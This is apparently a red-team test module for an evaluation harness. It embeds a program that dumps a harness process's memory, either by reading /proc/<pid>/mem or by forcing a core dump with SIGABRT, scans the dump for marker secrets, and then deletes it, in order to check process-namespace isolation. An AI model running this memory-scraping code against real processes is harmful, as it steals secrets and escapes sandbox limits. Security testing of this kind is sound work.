"""Make a process of the harness dump its memory into a file, and read that."""

from red_team.moves import victim_moves

AIM = "secrets in memory"
DEFENCE = "process namespace: no process of the harness can be signalled or limited"

PROGRAM = """
import json, os, re, resource, signal, time
victim = json.loads(os.environ["TARGETS"])["victim"]
is_piped = open("/proc/sys/kernel/core_pattern").read().startswith("|")
try:
    folder = os.readlink(f"/proc/{victim}/cwd")
    if is_piped:  # the kernel writes no file then: dump by hand
        spans = [line.split()[:2] for line in open(f"/proc/{victim}/maps")]
        with open(f"/proc/{victim}/mem", "rb") as memory, open(f"{folder}/core", "wb") as dump:
            for start, end in (map(lambda word: int(word, 16), span.split("-")) for span, r in spans if r[:2] == "rw"):
                memory.seek(start)
                dump.write(memory.read(end - start))
    else:
        resource.prlimit(victim, resource.RLIMIT_CORE, (resource.RLIM_INFINITY,) * 2)
        os.kill(victim, signal.SIGABRT)  # SIGQUIT is ignored by what was started in the background
        ends_at = time.time() + 60
        while time.time() < ends_at:  # it is a zombie once the kernel has written all of it
            if open(f"/proc/{victim}/stat").read().rpartition(")")[2].split()[0] == "Z":
                break
            time.sleep(0.1)
    for name in os.listdir(folder):
        if name.startswith("core"):
            words = re.findall(rb"marker-[0-9a-f]{16}", open(f"{folder}/{name}", "rb").read())
            print(*{word.decode() for word in words})
            os.unlink(f"{folder}/{name}")
except OSError as error:
    print("no dump:", error)
"""

attempt, control = victim_moves(PROGRAM)
